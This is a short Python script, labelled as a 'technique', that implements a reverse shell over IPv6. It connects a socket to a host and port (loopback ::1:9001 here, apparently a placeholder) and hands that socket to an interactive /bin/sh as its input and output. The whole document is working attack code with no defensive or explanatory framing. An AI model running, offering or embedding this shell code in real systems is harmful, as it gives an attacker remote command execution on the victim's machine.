# technique: reverse shell over IPv6 that hands the socket to subprocess as stdin/stdout/stderr of sh -i
import socket
import subprocess

HOST = "::1"
PORT = 9001

sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
sock.connect((HOST, PORT, 0, 0))
proc = subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
